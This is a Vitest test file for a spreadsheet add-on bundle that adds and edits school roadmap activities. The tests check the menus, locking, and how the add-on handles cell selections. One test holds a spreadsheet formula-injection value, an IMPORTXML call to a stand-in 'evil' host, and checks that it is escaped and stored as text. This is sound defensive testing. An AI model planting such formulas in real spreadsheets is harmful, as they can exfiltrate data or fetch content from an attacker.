/** The activity menu items and server calls in the built bundle (node:vm) against the stub spreadsheet. */
import { beforeAll, describe, expect, it } from 'vitest';
import { CATALOGUE } from '../../src/core/catalogue';
import type { Grid } from '../../src/core/results';
import { ROADMAP_COLUMN } from '../../src/core/roadmap-sheet';
import { activityForm } from '../support/activity-form';
import { callGlobal, loadBundle } from '../support/gas';
import { key, StubRange, type StubSheet, stubSpreadsheetApp, stubSpreadsheetOf } from '../support/sheets-stub';
import { sampleGrids } from '../support/sample';

let grids: Grid[];
beforeAll(async () => {
  grids = await sampleGrids();
});

const spreadsheet = stubSpreadsheetOf;

const SCHOOL5 = 'ДК СОШ № 5 2026–27';
const form = activityForm;

function menuHandler(rec: ReturnType<typeof loadBundle>['rec'], title: string): string {
  const item = rec.menus[0]?.items.find((i) => i !== 'separator' && i.title === title);
  if (!item || item === 'separator') throw new Error(`Нет пункта «${title}»`);
  return item.handler;
}

describe('the activity form in the bundle', () => {
  it('«Добавить мероприятие…» opens the form', () => {
    const ss = spreadsheet(grids);
    const { context, rec } = loadBundle({ spreadsheetApp: stubSpreadsheetApp(ss) });
    callGlobal(context, 'onOpen', {});
    callGlobal(context, menuHandler(rec, 'Добавить мероприятие…'));
    expect(rec.sidebars.map((s) => [s.file, s.title])).toEqual([['activity', 'ШНОР — мероприятие дорожной карты']]);
    expect(rec.sidebars[0]?.html).toContain('<script>window.shnorData={"mode":"add"};</script></head>');
  });

  it('saves under the document lock; text that looks like a formula is written as text', () => {
    const ss = spreadsheet(grids);
    const { context, rec } = loadBundle({ spreadsheetApp: stubSpreadsheetApp(ss) });
    const view = callGlobal(context, 'apiActivityForm', null) as { schools: unknown[]; suggestions: unknown[] };
    expect(view.schools).toHaveLength(33);
    expect(view.suggestions).toHaveLength(CATALOGUE.length);
    expect(rec.locks).toBe(0);
    const hostile = '=IMPORTXML("http://evil","//a")';
    const result = callGlobal(
      context,
      'apiSaveActivity',
      form({ activity: hostile, responsible: '+7900', result: '-1', document: '@all' }),
    ) as {
      ok: boolean;
      message: string;
    };
    expect(result).toMatchObject({ ok: true, message: `Добавлено в «${SCHOOL5}», строка 5. Создан лист: «${SCHOOL5}».` });
    expect(rec.locks).toBe(1);
    const tab = ss.sheets.find((s) => s.name === SCHOOL5) as StubSheet;
    const at = (col: number) => tab.values.get(key(4, col));
    expect([at(ROADMAP_COLUMN.activity), at(ROADMAP_COLUMN.responsible), at(ROADMAP_COLUMN.result), at(ROADMAP_COLUMN.document)]).toEqual([
      hostile,
      '+7900',
      '-1',
      '@all',
    ]);
    expect([...tab.formulas.keys()]).toEqual([]);
    // What reached setValues: the apostrophe that keeps Sheets from reading a formula.
    expect(tab.written.flat(2)).toContain(`'${hostile}`);
    expect(at(ROADMAP_COLUMN.number)).toBe('1.1');

    // A new block opens a section at the end; the next row of the first block goes under it, moving that section down.
    callGlobal(context, 'apiSaveActivity', form({ block: 'Методический блок', activity: 'Второе' }));
    callGlobal(context, 'apiSaveActivity', form({ activity: 'Третье' }));
    expect(tab.values.get(key(5, ROADMAP_COLUMN.activity))).toBe('Третье');
    expect(tab.values.get(key(5, ROADMAP_COLUMN.number))).toBe('1.2');
    expect(tab.values.get(key(6, ROADMAP_COLUMN.block))).toBe('Методический блок');
    expect(tab.values.get(key(7, ROADMAP_COLUMN.activity))).toBe('Второе');
    expect(rec.locks).toBe(3);
  });

  it('refuses to save when the workbook is busy', () => {
    const ss = spreadsheet(grids);
    const { context } = loadBundle({ spreadsheetApp: stubSpreadsheetApp(ss), lockFree: false });
    expect(() => callGlobal(context, 'apiSaveActivity', form())).toThrow('Книга занята');
    expect(ss.sheets.some((s) => s.name.startsWith('ДК '))).toBe(false);
  });

  it('«Изменить мероприятие…» opens the form on the selected row, or says what is wrong with the selection', () => {
    const ss = spreadsheet(grids);
    const { context, rec } = loadBundle({ spreadsheetApp: stubSpreadsheetApp(ss) });
    callGlobal(context, 'onOpen', {});
    const edit = menuHandler(rec, 'Изменить мероприятие…');
    // Sheets always has a current cell: A1 of the active tab until the user clicks elsewhere.
    callGlobal(context, edit);
    expect(rec.alerts.at(-1)).toMatch(/^Лист «Результаты» — не дорожная карта\./);
    ss.activeRange = new StubRange(ss.sheets[1] as StubSheet, 3, 1, 1, 1);
    callGlobal(context, edit);
    expect(rec.alerts.at(-1)).toMatch(/^Лист «Школы» — не дорожная карта\. Выделите строку мероприятия на листе дорожной карты/);
    expect(rec.sidebars).toHaveLength(0);

    callGlobal(context, 'apiSaveActivity', form());
    const tab = ss.sheets.find((s) => s.name === SCHOOL5) as StubSheet;
    ss.activeRange = new StubRange(tab, 3, 2, 1, 1);
    callGlobal(context, edit);
    expect(rec.alerts.at(-1)).toBe(
      `Строка 3 листа «${SCHOOL5}» — заголовок дорожной карты, мероприятия идут с 4-й строки. ` +
        'Выделите строку мероприятия на листе дорожной карты («ДК …») и выберите «Изменить мероприятие…».',
    );
    ss.activeRange = new StubRange(tab, 5, 3, 2, 4);
    callGlobal(context, edit);
    expect(rec.sidebars).toHaveLength(1);
    expect(rec.sidebars[0]?.html).toContain(`window.shnorData={"mode":"edit","target":{"sheet":"ДК СОШ № 5 2026–27","row":5}}`);

    // The sidebar's calls: the row loads, the change is written in place under the lock.
    const loaded = callGlobal(context, 'apiActivityFromSelection') as {
      ok: boolean;
      loaded: { form: Record<string, unknown>; original: unknown };
    };
    expect(loaded.ok).toBe(true);
    const locks = rec.locks;
    const saved = callGlobal(context, 'apiSaveActivity', {
      ...loaded.loaded.form,
      status: 'выполнено',
      original: loaded.loaded.original,
    }) as { message: string };
    expect(saved.message).toBe(`Изменено: «${SCHOOL5}», строка 5.`);
    expect(rec.locks).toBe(locks + 1);
    expect(tab.values.get(key(4, ROADMAP_COLUMN.status))).toBe('выполнено');
    expect(callGlobal(context, 'apiRoadmapBlocks', ['sch771005', 'sch771003'], '2026-09-01/2027-08-31')).toEqual(['Управленческий блок']);
    expect(callGlobal(context, 'apiTermDates', 'ноябрь', '2026-09-01/2027-08-31')).toMatchObject({
      start: '2026-11-01',
      end: '2026-11-30',
    });
  });
});
